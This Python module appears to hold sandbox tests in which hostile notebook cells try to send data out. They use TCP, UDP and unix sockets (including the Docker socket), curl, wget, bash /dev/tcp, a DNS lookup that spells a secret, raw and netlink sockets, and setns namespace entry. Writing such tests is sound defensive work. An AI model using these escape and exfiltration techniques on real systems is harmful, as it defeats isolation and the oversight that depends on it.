"""Words sent away: a listener of the test waits on the loopback interface and on a unix socket."""

from nbformat.notebooknode import NotebookNode

from .. import target
from ..listening import ABSTRACT, PORT, UNIX_PATH
from ..submission import Book, hostile


@hostile(target.FULL)
def tcp_connection(book: Book) -> NotebookNode:
    """A TCP connection to a port of the machine."""
    return book.closing(f"""
        import socket

        for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
            try:
                with socket.create_connection((host, {PORT}), timeout=1) as there:
                    there.sendall(b"hello")
            except OSError as error:
                print(host, error)
        """)


@hostile(target.FULL)
def udp_packet(book: Book) -> NotebookNode:
    """A UDP packet, which needs no answer."""
    return book.closing(f"""
        import socket

        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            try:
                socket.socket(family, socket.SOCK_DGRAM).sendto(b"hello", (host, {PORT}))
            except OSError as error:
                print(host, error)
        """)


@hostile(target.FULL)
def unix_sockets_of_the_machine(book: Book) -> NotebookNode:
    """A unix socket with a path and one with an abstract name."""
    return book.closing(f"""
        import socket

        for name in ({UNIX_PATH!r}, {ABSTRACT!r}, "/run/docker.sock"):
            try:
                there = socket.socket(socket.AF_UNIX)
                there.connect(name)
                there.sendall(b"hello")
            except OSError as error:
                print(name, error)
        """)


@hostile(target.FULL)
def other_programs_on_the_network(book: Book) -> NotebookNode:
    """Programs and libraries of the machine that can send."""
    return book.closing(f"""
        import subprocess
        import urllib.request

        try:
            urllib.request.urlopen("http://127.0.0.1:{PORT}/", timeout=1)
        except OSError as error:
            print(error)
        for command in (f"curl -m 1 http://127.0.0.1:{PORT}", f"wget -T 1 -t 1 http://127.0.0.1:{PORT}",
                        f"exec 3<>/dev/tcp/127.0.0.1/{PORT}; echo hi >&3",
                        f"echo hi > /dev/udp/127.0.0.1/{PORT}"):
            print(subprocess.run(["bash", "-c", command], capture_output=True, timeout=3))
        """)


@hostile(target.FULL)
def address_looked_up(book: Book) -> NotebookNode:
    """A name server is asked for a name that spells a secret."""
    return book.closing("""
        import socket

        socket.setdefaulttimeout(1)
        try:
            print(socket.getaddrinfo("secret.example.org", 80))
        except OSError as error:
            print(error)
        """)


@hostile(target.FULL, forbidden=("RAW-SOCKET", "NETLINK", "VSOCK-SOCKET"))
def unusual_sockets(book: Book) -> NotebookNode:
    """Raw, packet, netlink, virtual machine and kernel crypto sockets."""
    return book.closing(f"""
        import socket

        def attempt(word, action):
            try:
                action()
                print(word)
            except OSError as error:
                print(error)

        def raw():
            there = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
            there.sendto(b"hello", ("127.0.0.1", {PORT}))

        def netlink():
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0))

        def vsock():
            socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)

        attempt("RAW-" + "SOCKET", raw)
        attempt("NET" + "LINK", netlink)
        attempt("VSOCK" + "-SOCKET", vsock)
        """)


@hostile(target.FULL)
def network_configured_anew(book: Book) -> NotebookNode:
    """An interface is brought up and the machine's name spaces are entered by their files."""
    return book.closing(f"""
        import ctypes
        import os
        import socket
        import subprocess

        libc = ctypes.CDLL(None, use_errno=True)
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            for kind in ("net", "mnt", "user", "pid"):
                try:
                    handle = os.open(f"/proc/{{pid}}/ns/{{kind}}", os.O_RDONLY)
                    print(pid, kind, libc.setns(handle, 0), ctypes.get_errno())
                except OSError as error:
                    print(pid, kind, error)
        subprocess.run("ip link set lo up; ip addr add 127.0.0.1/8 dev lo", shell=True)
        try:
            socket.create_connection(("127.0.0.1", {PORT}), timeout=1)
        except OSError as error:
            print(error)
        """)
